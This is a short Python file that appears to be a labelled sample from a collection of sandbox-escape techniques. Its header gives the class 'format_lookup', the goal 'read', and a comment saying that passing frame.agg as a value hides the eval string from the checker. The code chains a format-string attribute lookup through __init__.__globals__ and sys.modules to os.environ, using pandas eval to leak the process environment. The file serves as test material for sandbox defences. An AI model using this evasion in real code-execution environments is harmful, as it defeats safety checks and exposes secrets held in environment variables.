# class: format_lookup
# technique: map(frame.agg, ['eval'], [0], [expr]) — frame.agg taken as a value is not a dispatch call, so its string is never looked at
# goal: read
import numpy as np
import pandas as pd

u = "_" * 2
template = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"

frame = pd.DataFrame({"x": np.arange(2)})
names = {"t": template, "o": [np.vectorize]}
leak = list(map(lambda m, e: frame.agg(m, 0, e, local_dict=names), ["eval"], ["@t.format(@o[0])"]))[0]
if not str(leak).startswith("environ("):
    raise RuntimeError("no environment")
df = pd.DataFrame({"environ": [leak]})
